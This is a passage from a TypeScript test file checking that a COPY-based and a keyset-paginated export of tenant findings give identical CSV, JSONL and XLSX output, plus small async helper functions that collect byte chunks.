        const read = { tenantRef, params: { ...DEFAULT_FINDING_LIST_PARAMS, ...params }, batchRows: 7 };
        const byCopy = createFindingExportSource(direct, read);
        const byKeyset = createFindingExportSource({ ...direct, copyOut: undefined }, read);
        for (const format of ["csv", "jsonl", "xlsx"] as const) {
          const [a, b] = [await bytesOf(byCopy, format), await bytesOf(byKeyset, format)];
          expect(a.length, `${JSON.stringify(params)} ${format}`).toBeGreaterThan(100);
          if (format === "xlsx") {
            const sheets = [await rowsXmlOf(byCopy), await rowsXmlOf(byKeyset)];
            expect(sheets[0], `${JSON.stringify(params)} xlsx`).toBe(sheets[1]);
          } else expect(a.toString("utf8"), `${JSON.stringify(params)} ${format}`).toBe(b.toString("utf8"));
        }
      }
    },
    240_000,
  );
});

async function rowsXmlOf(source: ExportSource): Promise<string> {
  return (await concatenated(rowsXml(source.columns, source.batches()))).toString("utf8");
}

async function concatenated(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const out: Buffer[] = [];
  for await (const chunk of chunks) out.push(Buffer.from(chunk));
  return Buffer.concat(out);
}

async function bytesOf(source: ExportSource, format: ExportFormat): Promise<Buffer> {
  const out: Buffer[] = [];
  for await (const chunk of exportChunks(source, format)) out.push(Buffer.from(chunk));
  return Buffer.concat(out);
}
